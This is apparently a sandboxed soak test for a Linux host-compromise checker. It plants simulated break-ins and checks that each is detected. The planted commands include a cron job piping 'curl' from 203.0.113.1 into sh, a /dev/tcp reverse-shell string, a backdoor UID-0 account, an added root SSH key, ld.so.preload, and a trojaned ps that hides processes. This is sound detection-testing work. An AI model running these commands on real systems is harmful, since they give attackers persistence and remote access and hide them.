import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { baselineOf } from '../../src/core/hosts/baseline.ts';
import type { CheckRequirements, HostCheck } from '../../src/core/hosts/check.ts';
import { judgeProbe } from '../../src/core/hosts/judge-probe.ts';
import { hasSandbox, probeSandbox, utmpRecord } from '../support/sandbox.ts';
import type { Seed } from '../support/sandbox.ts';

/**
 * The rehearsal of break-ins. It plants things that a host check of this very machine would find too, so it never runs beside
 * other tests: EXITDESK_SOAK=1. It runs over this machine's own root file system, and over each one in EXITDESK_ROOTS (a folder
 * of root file systems as debootstrap makes them). Nothing of them is changed.
 */
const wanted = process.env['EXITDESK_SOAK'] === '1' && hasSandbox();
const folder = process.env['EXITDESK_ROOTS'];
const roots = [
  '/',
  ...(folder !== undefined && existsSync(folder) ? readdirSync(folder).map((name) => join(folder, name)) : []),
];
const cleanRuns = Number(process.env['EXITDESK_CLEAN_RUNS'] ?? 20);

const requirements: CheckRequirements = {
  required: ['logins', 'sessions', 'processes', 'open-files'],
  oneLog: true,
  // Newer systems ask logind for sessions, which no sandbox runs.
  emptyIsFine: ['sessions'],
  ownSources: ['192.0.2.0/24'],
  ownAccounts: ['admin'],
};

/** A host that has been up for weeks, with the noise that every public sshd has. */
function ordinaryHost(noise: number): Seed {
  const now = Math.floor(Date.now() / 1000);
  const boot = utmpRecord(2, { line: '~', user: 'reboot', host: '6.1.0-25-amd64', atSeconds: now - 20 * 86_400 });
  const login = utmpRecord(7, { line: 'pts/0', user: 'admin', host: '192.0.2.7', atSeconds: now - 7_200 });
  const stamp = (ago: number): string => new Date((now - ago) * 1000).toISOString().replace('Z', '+00:00');
  const scanner = (i: number): string => `203.0.${(i * 7 + noise) % 256}.${(i * 13 + noise) % 256}`;
  const tried = ['root', 'admin', 'Accepted', 'oracle', 'test', 'ubuntu'];
  const auth = Array.from({ length: 200 }, (_, i) => [
    `${stamp(90_000 - i * 400)} host sshd[${1000 + i}]: Failed password for invalid user ${tried[(i + noise) % 6]} from ${scanner(i)} port ${1024 + i} ssh2`,
    `${stamp(90_000 - i * 400)} host sshd[${1000 + i}]: Connection closed by invalid user ${tried[i % 6]} ${scanner(i)} port ${1024 + i} [preauth]`,
    `${stamp(90_000 - i * 400)} host CRON[${1000 + i}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
  ]).flat();
  auth.push(
    `${stamp(7_200)} host sshd[4242]: Accepted publickey for admin from 192.0.2.7 port 50022 ssh2: ED25519 SHA256:${'k'.repeat(43)}`,
  );
  const syslog = Array.from({ length: 100 }, (_, i) => [
    `${stamp(90_000 - i * 800)} host CRON[${2000 + i}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`,
    `${stamp(90_000 - i * 800)} host systemd[1]: Finished apt-daily.service - Daily apt download activities.`,
    `${stamp(90_000 - i * 800)} host Tor[700]: Your system clock just jumped 1 seconds; [notice] from ${scanner(i)}:443`,
    `${stamp(90_000 - i * 800)} host kernel: [UFW BLOCK] IN=eth0 OUT= SRC=${scanner(i)} DST=198.51.100.10 LEN=40 PROTO=TCP SPT=1 DPT=23`,
    `${stamp(90_000 - i * 800)} host nginx[800]: client ${scanner(i)} and 2001:db8::${i} asked for the notice`,
    `${scanner(i)} of a line whose beginning was cut: ${scanner(i)}`,
  ]).flat();
  return {
    '/run/utmp': Buffer.concat([boot]),
    '/var/log/wtmp': Buffer.concat([boot, login]),
    '/var/log/auth.log': `${auth.join('\n')}\n`,
    '/var/log/syslog': `${syslog.join('\n')}\n`,
  };
}

function hasTool(root: string, name: string): boolean {
  return ['usr/bin', 'bin', 'usr/sbin', 'sbin'].some((folder) => existsSync(join(root, folder, name)));
}

/** A service, three connections of a process that only bears the name of tor, and one of another. */
const standIns = ['tor 127.71.7.1', 'tor 127.71.7.2', 'tor 127.71.7.3', 'elsewhere 127.71.8.1']
  .map((words) => words.split(' '))
  .map(
    ([name, from]) =>
      `perl -MIO::Socket::INET -e '$0 = "${name}"; $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 9001, LocalAddr => "${from}") or die; sleep 60' &`,
  )
  .reduce(
    (all, client) => `${all}\n${client}`,
    `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Listen => 9, LocalAddr => "127.0.0.1", LocalPort => 9001); while ($c = $s->accept) { push @c, $c }' &\nsleep 1`,
  )
  .concat('\nsleep 1');

const wtmpdb = 'mkdir -p /var/lib/wtmpdb; command -v wtmpdb >/dev/null && wtmpdb boot >/dev/null 2>&1; :';

const breakIns: readonly (readonly [what: string, plant: string, rules: readonly string[], says: string])[] = [
  [
    'an account with the number of root',
    'echo "toor:x:0:0::/root:/bin/sh" >> /etc/passwd',
    ['second-root', 'new-account'],
    'toor 0 /bin/sh',
  ],
  [
    'a new authorized key',
    'mkdir -p /root/.ssh; ssh-keygen -q -t ed25519 -N "" -f /tmp/k; cat /tmp/k.pub >> /root/.ssh/authorized_keys',
    ['new-key'],
    'root SHA256:',
  ],
  [
    'a listener',
    `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Listen => 1, LocalPort => 31337); sleep 60' & sleep 1`,
    ['new-listener'],
    'perl TCP *:31337',
  ],
  [
    'a program whose file was deleted',
    'mkdir -p /usr/local/bin; cp -L /bin/sleep /usr/local/bin/sleep; /usr/local/bin/sleep 60 & sleep 1; rm /usr/local/bin/sleep',
    ['program-deleted'],
    '/usr/local/bin/sleep (deleted)',
  ],
  [
    'a program in /dev/shm',
    'mkdir /dev/shm/.x; cp -L /bin/sleep /dev/shm/.x/sleep; /dev/shm/.x/sleep 60 & sleep 1',
    ['program-in-open-folder'],
    '/dev/shm/.x/sleep',
  ],
  [
    'a cron table that loads a script',
    'mkdir -p /etc/cron.d; echo "*/5 * * * * root curl -s http://203.0.113.1/x | sh" > /etc/cron.d/php',
    ['autostart-bad-command', 'new-autostart'],
    'curl -s',
  ],
  [
    'a cron table that looks harmless',
    'mkdir -p /etc/cron.d; echo "17 3 * * * root /usr/sbin/update-cache" > /etc/cron.d/cache',
    ['new-autostart'],
    '/etc/cron.d/cache',
  ],
  [
    'an ld.so.preload',
    'echo /usr/lib/libsystem.so.9 > /etc/ld.so.preload',
    ['preload-for-all'],
    '/usr/lib/libsystem.so.9',
  ],
  [
    'an accepted password from an unknown address',
    'echo "$(date +%FT%T)+00:00 host sshd[9]: Accepted password for www-data from 203.0.113.66 port 4022 ssh2" >> /var/log/auth.log',
    ['accepted-unknown'],
    'from 203.0.113.66',
  ],
  ['an emptied auth.log', 'sleep 12; : > /var/log/auth.log', ['log-emptied'], '/var/log/auth.log 0'],
  [
    'a ps that hides a process',
    'sleep 61 & mv /usr/bin/ps /usr/bin/ps.real; printf \'#!/bin/sh\\nps.real "$@" | grep -v "sleep 61"\\n\' > /usr/bin/ps; chmod 755 /usr/bin/ps; sleep 4',
    ['program-changed', 'hidden-from-ps'],
    'sleep 61',
  ],
  [
    'a shell on a connection',
    `bash -c 'exec -a "bash -c bash -i >& /dev/tcp/203.0.113.1/4444 0>&1" sleep 62' & sleep 1`,
    ['reverse-shell'],
    '/dev/tcp/203.0.113.1/4444',
  ],
  [
    'a process that poses as a kernel thread',
    `bash -c 'exec -a "[kworker/0:3-events]" sleep 63' & sleep 1`,
    ['poses-as-kernel-thread'],
    'kworker',
  ],
];

describe.skipIf(!wanted).each(roots)('a break-in rehearsed over %s', (root) => {
  let accepted: CheckRequirements = requirements;
  const judge = async (plant: string, noise = 0): Promise<HostCheck> =>
    judgeProbe(await probeSandbox(root, ordinaryHost(noise), `${wtmpdb}\n${plant}`), 'sandbox', accepted, Date.now());

  beforeAll(async () => {
    const output = await probeSandbox(root, ordinaryHost(0), wtmpdb);
    accepted = { ...requirements, baseline: baselineOf(output, requirements) };
  });

  it('begins with a host that is clean', async () => {
    const check = await judge('');
    expect(check.because).toEqual([]);
    expect(check.verdict).toBe('clean');
  });

  it.each(breakIns)('finds %s', async (...[, plant, rules, says]) => {
    // A BusyBox userland has neither the tools to plant some of these nor those to find them.
    for (const tool of ['perl', 'bash', 'ssh-keygen', 'ps.real', 'date +%FT%T', ': > ']) {
      const needed = { 'ps.real': 'dpkg', ': > ': 'lsof' }[tool] ?? tool.split(' ')[0] ?? tool;
      if (plant.includes(tool) && !hasTool(root, needed)) return;
    }
    const check = await judge(plant);
    expect(check.findings.filter((f) => f.severity === 'suspicious').map((f) => f.rule)).toEqual(
      expect.arrayContaining([...rules]),
    );
    expect(check.findings.map((f) => f.line).join('\n')).toContain(says);
    expect(check.verdict).toBe('suspicious');
  });

  it.skipIf(!hasTool(root, 'lsof'))(
    'ends in time where a tool hangs or never stops, and takes neither for done',
    async () => {
      const fake = (name: string, body: string): string =>
        `printf '#!/bin/sh\\n${body}\\n' > /usr/bin/${name}; chmod 755 /usr/bin/${name}`;
      const check = await judge(`${fake('lsof', 'sleep 600')}; ${fake('ps', 'yes root 1 0 0 1 1 x')}`);
      const status = (part: string): string | undefined => check.parts.find((p) => p.part === part)?.status;
      expect({ processes: status('processes'), openFiles: status('open-files') }).toEqual({
        processes: 'failed',
        openFiles: 'failed',
      });
      expect(check.tookMs).toBeLessThan(50_000);
    },
    90_000,
  );

  it.skipIf(!hasTool(root, 'perl')).each([
    ['lsof', '', true],
    ['ss', 'rm -f /usr/bin/lsof', true],
    ['/proc', 'rm -f /usr/bin/lsof /usr/bin/ss /bin/ss /usr/sbin/ss', false],
  ])('keeps the peers of a stand-in named tor on the host, by %s', async (by, without, owners) => {
    const output = await probeSandbox(root, ordinaryHost(0), `${wtmpdb}\n${standIns}\n${without}`);
    const text = output.ok ? output.text : '';
    expect(text).toMatch(new RegExp(`^# open-files done ${by}`, 'm'));
    expect(text).toMatch(/^= processes stat \d+ \d+ \d+ \S+ user tor$/m);
    expect(text).not.toMatch(/127\.71\.[78]\.\d/);
    const rows = text.split('\n').filter((line) => line.startsWith('= open-files'));
    expect(rows.some((row) => /conn \d+ \S+ elsewhere TCP \S+ \[loopback\]/.test(row))).toBe(owners);
    expect(rows.some((row) => /conn \d+ \S+ tor /.test(row))).toBe(false);
  });

  it('lets no address of the logs of tor and of the firewall leave the host', async () => {
    const output = await probeSandbox(root, ordinaryHost(3), wtmpdb);
    expect(output.ok ? output.text : '').not.toMatch(/203\.0\.\d+\.\d+|2001:db8/);
  });

  it(`gives no false alarm in ${cleanRuns} runs with noise`, async () => {
    for (let run = 1; run <= cleanRuns; run++) {
      const check = await judge('', run);
      expect({ run, because: check.because, loud: check.findings.filter((f) => f.severity !== 'info') }).toEqual({
        run,
        because: [],
        loud: [],
      });
    }
  }, 1_800_000);
});
